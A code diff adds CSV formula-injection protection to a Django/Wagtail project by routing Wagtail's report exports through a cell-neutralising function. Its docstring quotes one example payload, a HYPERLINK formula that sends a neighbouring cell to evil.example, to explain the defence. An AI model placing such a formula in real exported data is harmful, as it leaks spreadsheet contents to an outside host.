@@ -4,7 +4,8 @@ Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``,
 ``-`` or ``@`` (and some strip a leading tab or carriage return first) as a
 formula, so a team named ``=HYPERLINK("http://evil.example/?leak="&B2)`` would
 send the row next to it to another site. Every CSV Huddle writes goes through
-``safe_row``; ``csv_response`` streams one as a download.
+``safe_row``; ``csv_response`` streams one as a download, and Wagtail's own
+report exports (site history, aging pages...) are neutralised the same way.
 """
 
 import csv
@@ -77,3 +78,24 @@ def csv_response(
     )
     response["X-Content-Type-Options"] = "nosniff"
     return response
+
+
+def neutralise_wagtail_exports() -> None:
+    """Wagtail's report and listing exports write page titles and people's names to CSV as
+    they are (only its XLSX files turn formulas back into text); pass every cell through
+    ``safe_cell`` too. Called once from ``KnowledgeConfig.ready()``."""
+    from wagtail.admin.views.mixins import SpreadsheetExportMixin
+
+    if getattr(SpreadsheetExportMixin.write_csv_row, "neutralised", False):
+        return
+
+    def write_csv_row(self, writer, row_dict):
+        return writer.writerow(
+            {
+                field: safe_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
+                for field, value in row_dict.items()
+            }
+        )
+
+    write_csv_row.neutralised = True
+    SpreadsheetExportMixin.write_csv_row = write_csv_row
